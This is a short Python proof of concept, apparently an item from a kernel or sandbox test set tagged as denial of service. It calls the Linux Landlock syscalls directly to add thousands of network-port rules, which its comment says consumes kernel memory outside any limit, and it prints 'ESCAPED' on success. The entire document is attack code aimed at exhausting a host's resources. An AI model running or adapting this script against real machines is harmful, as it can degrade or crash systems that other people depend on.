# class: dos
# Fills a set of Landlock rules with ports: memory of the kernel that no limit counts.
import ctypes,struct
l=ctypes.CDLL(None,use_errno=True); n=0
f=l.syscall(444,ctypes.create_string_buffer(struct.pack("=QQ",0,3),16),16,0)
for p in range(2000): n+=f>=0 and l.syscall(445,f,2,ctypes.create_string_buffer(struct.pack("=QQ",3,p),16),0)==0
print("ESCAPED %d rules in the kernel"%n if n>1000 else n)
